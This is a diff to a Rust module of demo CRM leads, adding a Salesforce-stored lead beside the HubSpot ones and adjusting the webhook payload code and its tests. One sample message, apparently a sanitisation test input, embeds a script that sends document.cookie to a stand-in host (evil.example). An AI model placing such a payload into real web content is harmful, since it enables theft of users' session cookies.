@@ -1,7 +1,8 @@
-//! The nine leads of the demo: who writes what, what happens around it, and how it must end.
+//! The ten leads of the demo: who writes what, what happens around it, and how it must end.
 //!
-//! Told to HubSpot by a form, they reach the desk as HubSpot's workflow action "send a webhook" posts them: the contact
-//! record with every property's value and versions (`developers.hubspot.com`, legacy contact record).
+//! Told to HubSpot by a form, most reach the desk as HubSpot's workflow action "send a webhook" posts them: the contact
+//! record with every property's value and versions (`developers.hubspot.com`, legacy contact record). One lives in
+//! Salesforce, whose simulator makes its outbound message.
 
 use serde_json::{Value, json};
 
@@ -17,8 +18,16 @@ pub(super) struct Person {
     pub(super) last: &'static str,
     pub(super) email: &'static str,
     pub(super) phone: &'static str,
-    /// HubSpot's id of the contact.
-    pub(super) contact: u32,
+    pub(super) record: Record,
+}
+
+/// Where a lead lives.
+#[derive(Debug, Clone, Copy)]
+pub(super) enum Record {
+    /// HubSpot's id of a contact.
+    Hubspot(u32),
+    /// Salesforce's id of a lead.
+    Salesforce(&'static str),
 }
 
 /// What happens around a lead.
@@ -71,13 +80,15 @@ const BY_EITHER: WantedAction = ("sms", EITHER, "done");
 const BY_MODEM: WantedAction = ("sms", "modem", "done");
 const FIELDS: WantedAction = ("crm_update", "hubspot", "done");
 const NOTE: WantedAction = ("crm_note", "hubspot", "done");
+const SF_FIELDS: WantedAction = ("crm_update", "salesforce", "done");
+const SF_NOTE: WantedAction = ("crm_note", "salesforce", "done");
 
 const MARIA: Person = Person {
     first: "Maria",
     last: "Keller",
     email: "maria.keller@keller-freight.example",
     phone: "+49 30 901820",
-    contact: 101,
+    record: Record::Hubspot(101),
 };
 
 const WANTED_NOW: &str = "We need a quote for 50 handheld scanners by tomorrow noon. The budget is approved, \
@@ -89,7 +100,7 @@ const FROM_WORD: &str = "<div class=\"WordSection1\"><style>p.MsoNormal{margin:0
 <script>fetch('https://evil.example/'+document.cookie)</script><!-- [if gte mso 9] --></div>";
 
 /// The leads, in the order in which they come.
-pub(super) const SAMPLES: [Sample; 9] = [
+pub(super) const SAMPLES: [Sample; 10] = [
     Sample {
         name: "urgent",
         title: "A buyer with a date",
@@ -109,7 +120,7 @@ pub(super) const SAMPLES: [Sample; 9] = [
             last: "Okafor",
             email: "tom.okafor@mail.example",
             phone: "+44 20 7946 0018",
-            contact: 102,
+            record: Record::Hubspot(102),
         },
         message: Some(
             "How does your scanner compare to the free ones that use a phone's camera? No plans yet, I'm just curious.",
@@ -127,7 +138,7 @@ pub(super) const SAMPLES: [Sample; 9] = [
             last: "Duarte",
             email: "ines@duarte-pharma.example",
             phone: "+351 21 792 0010",
-            contact: 103,
+            record: Record::Hubspot(103),
         },
         message: Some(
             "URGENT!!! Since the update three of our scanners crash when we log in. My account is DU-4711, please fix this.",
@@ -140,7 +151,13 @@ pub(super) const SAMPLES: [Sample; 9] = [
         name: "spam",
         title: "Somebody who wants to sell to us",
         about: "Recorded and dropped. Nobody hears of it; it can be restored.",
-        person: Person { first: "Growth", last: "Team", email: "hello@rank-rocket.example", phone: "", contact: 104 },
+        person: Person {
+            first: "Growth",
+            last: "Team",
+            email: "hello@rank-rocket.example",
+            phone: "",
+            record: Record::Hubspot(104),
+        },
         message: Some(
             "We offer guaranteed SEO backlinks: rank #1 within a week! Limited quote, only valid until tomorrow. \
              http://rank-rocket.example/buy",
@@ -158,7 +175,7 @@ pub(super) const SAMPLES: [Sample; 9] = [
             last: "Rousseau",
             email: "j.rousseau@entrepot-sud.example",
             phone: "+33 4 96 11 00 10",
-            contact: 105,
+            record: Record::Hubspot(105),
         },
         message: Some(FROM_WORD),
         around: Around::Nothing,
@@ -184,7 +201,7 @@ pub(super) const SAMPLES: [Sample; 9] = [
             last: "Tanaka",
             email: "y.tanaka@kita-logi.example",
             phone: "+81 3-6630-0010",
-            contact: 107,
+            record: Record::Hubspot(107),
         },
         message: None,
         around: Around::Nothing,
@@ -200,7 +217,7 @@ pub(super) const SAMPLES: [Sample; 9] = [
             last: "Whitfield",
             email: "sam@whitfield-cold.example",
             phone: "+1 303 555 0142",
-            contact: 108,
+            record: Record::Hubspot(108),
         },
         message: Some(
             "Our scanners were stolen last night. We want to buy 12 new ones today, the price hardly matters. \
@@ -232,7 +249,7 @@ pub(super) const SAMPLES: [Sample; 9] = [
             last: "Nwosu",
             email: "amara.nwosu@school.example",
             phone: "+1 303 555 0178",
-            contact: 109,
+            record: Record::Hubspot(109),
         },
         message: Some(
             "I teach logistics and am wondering: what is the difference between 1D and 2D scanners? \
@@ -242,11 +259,29 @@ pub(super) const SAMPLES: [Sample; 9] = [
         answer: 202,
         want: Want::Lead(Label::TireKicker, &[FIELDS, NOTE]),
     },
+    Sample {
+        name: "salesforce",
+        title: "A buyer who lives in Salesforce",
+        about: "Another team works in another CRM. Same desk, same phone; each lead goes back where it came from.",
+        person: Person {
+            first: "Noor",
+            last: "Haddad",
+            email: "noor.haddad@portside.example",
+            phone: "+31 10 808 0010",
+            record: Record::Salesforce("00Q5e000001NoorEAC"),
+        },
+        message: Some(
+            "We must replace 30 scanners by Friday and have a budget of 12,000 euro. Please send me a quote today.",
+        ),
+        around: Around::Nothing,
+        answer: 200,
+        want: Want::Lead(Label::UrgentBuyer, &[BY_MODEM, BY_MODEM, SF_FIELDS, SF_NOTE, SF_NOTE]),
+    },
 ];
 
 impl Sample {
-    /// What HubSpot posts.
-    pub(super) fn payload(&self) -> Value {
+    /// What HubSpot posts about this contact.
+    pub(super) fn payload(&self, contact: u32) -> Value {
         let person = &self.person;
         let property = |value: &str| json!({ "value": value, "versions": [{ "value": value, "source-type": "FORM" }] });
         let mut properties = json!({
@@ -259,11 +294,11 @@ impl Sample {
             map.insert("message".to_owned(), property(message));
         }
         json!({
-            "vid": person.contact,
+            "vid": contact,
             "portal-id": PORTAL,
             "is-contact": true,
             "properties": properties,
-            "identity-profiles": [{ "vid": person.contact, "identities": [{ "type": "EMAIL", "value": person.email }] }],
+            "identity-profiles": [{ "vid": contact, "identities": [{ "type": "EMAIL", "value": person.email }] }],
         })
     }
 }
@@ -292,7 +327,7 @@ mod tests {
         names.sort_unstable();
         names.dedup();
         assert_eq!(names.len(), SAMPLES.len());
-        assert_eq!(SAMPLES[5].payload(), SAMPLES[0].payload(), "a duplicate is one");
+        assert_eq!(SAMPLES[5].payload(101), SAMPLES[0].payload(101), "a duplicate is one");
     }
 
     #[test]
